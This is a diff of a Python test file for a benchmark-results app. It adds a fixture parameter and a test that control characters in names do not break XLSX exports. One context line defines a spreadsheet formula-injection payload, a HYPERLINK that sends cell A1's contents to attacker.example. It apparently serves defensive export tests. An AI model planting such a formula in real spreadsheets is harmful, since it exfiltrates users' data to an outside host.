@@ -19,11 +19,11 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
 
 def result_events(campaign: str, host: list[float], pod: list[float], *, node: str = "node-1",
-                  tool_version: str = "1.0.20") -> list[events.Envelope]:
+                  tool_version: str = "1.0.20", run_prefix: str | None = None) -> list[events.Envelope]:
     out: list[events.Envelope] = []
     for i, (env, value) in enumerate([("host", v) for v in host] + [("kubernetes", v) for v in pod]):
-        run = events.RunSpec(run_id=f"{campaign}-{i}", campaign=campaign, node=node, env=env, test="sysbench-cpu",
-                             params={"threads": 1})
+        run = events.RunSpec(run_id=f"{run_prefix or campaign}-{i}", campaign=campaign, node=node, env=env,
+                             test="sysbench-cpu", params={"threads": 1})
         start = T0 + timedelta(minutes=2 * i)
         res = events.Result(run=run, tool="sysbench", tool_version=tool_version, parser_version="1",
                             metrics=[events.Metric(name="events_per_second", value=value, unit="events/s",
@@ -91,3 +91,20 @@ def test_values_near_the_float_maximum_withhold_the_ratio_and_the_report_renders
     assert cell["sentence"].startswith("Inconclusive: no ratio could be computed")
     for path in ("/report/huge", "/api/campaigns/huge/export.xlsx", "/api/campaigns/huge/export.zip"):
         assert client.get(path).status_code == 200, path
+
+
+def test_control_characters_in_names_do_not_break_the_workbooks(store):
+    # XML 1.0 cannot hold NUL or \x1f: openpyxl raised IllegalCharacterError (500), also for another campaign
+    # whose OVERLAP flag sentence names the forged run
+    host = [1000.0 + i for i in range(6)]
+    store.write_batch(result_events("nul", host, host, node="node\x00-1") + result_events("other", host, host)
+                      + result_events("ctl", host, host, run_prefix="ctl\x1f"))
+    client = TestClient(create_app(store), raise_server_exceptions=False)
+    for campaign in ("nul", "other", "ctl"):
+        resp = client.get(f"/api/campaigns/{campaign}/export.xlsx")
+        assert resp.status_code == 200, (campaign, resp.text)
+        wb = openpyxl.load_workbook(io.BytesIO(resp.content))
+        texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+        assert not any("\x00" in t or "\x1f" in t for t in texts)
+    wb = openpyxl.load_workbook(io.BytesIO(client.get("/api/campaigns/nul/export.xlsx").content))
+    assert "node node\ufffd-1" in wb.sheetnames
